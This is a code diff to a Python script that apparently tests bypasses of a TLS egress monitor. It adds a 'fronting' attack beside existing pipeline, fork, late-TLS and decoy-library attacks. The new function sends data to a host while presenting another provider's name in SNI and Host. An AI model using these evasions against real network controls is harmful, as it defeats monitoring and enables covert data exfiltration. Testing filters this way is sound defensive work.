@@ -16,6 +16,8 @@ Attacks:
             library and call again after --wait seconds
   decoys    --data A --decoy LIB...: load decoy libraries exporting
             SSL_write (ctypes) before the real libssl, then call
+  fronting  --data A --front NAME: connect to HOST's address with SNI and
+            Host naming NAME (another provider)
 """
 
 import argparse
@@ -186,20 +188,34 @@ def decoys(args):
     attempt("decoys", 0, go)
 
 
+def fronting(args, ssl):
+    ctx = ssl.create_default_context()
+
+    def go():
+        raw = socket.create_connection((args.host, 443), timeout=10)
+        tls = ctx.wrap_socket(raw, server_hostname=args.front)
+        tls.sendall(request_bytes(args.front, args.data[0]))
+        st = read_status(tls, 1)
+        return st[0] if st else None
+    attempt("fronting", 0, go)
+
+
 def main():
     ap = argparse.ArgumentParser()
-    ap.add_argument("attack", choices=["pipeline", "thread", "fork", "late-tls", "decoys"])
+    ap.add_argument("attack", choices=["pipeline", "thread", "fork", "late-tls", "decoys",
+                                       "fronting"])
     ap.add_argument("host")
     ap.add_argument("--data", action="append", default=[])
     ap.add_argument("--wait", type=float, default=1.5)
     ap.add_argument("--decoy", action="append", default=[])
+    ap.add_argument("--front")
     args = ap.parse_args()
     if args.attack == "late-tls":
         return late_tls(args)
     if args.attack == "decoys":
         return decoys(args)
     import ssl
-    {"pipeline": pipeline, "thread": thread, "fork": fork}[args.attack](args, ssl)
+    {"pipeline": pipeline, "thread": thread, "fork": fork, "fronting": fronting}[args.attack](args, ssl)
 
 
 if __name__ == "__main__":
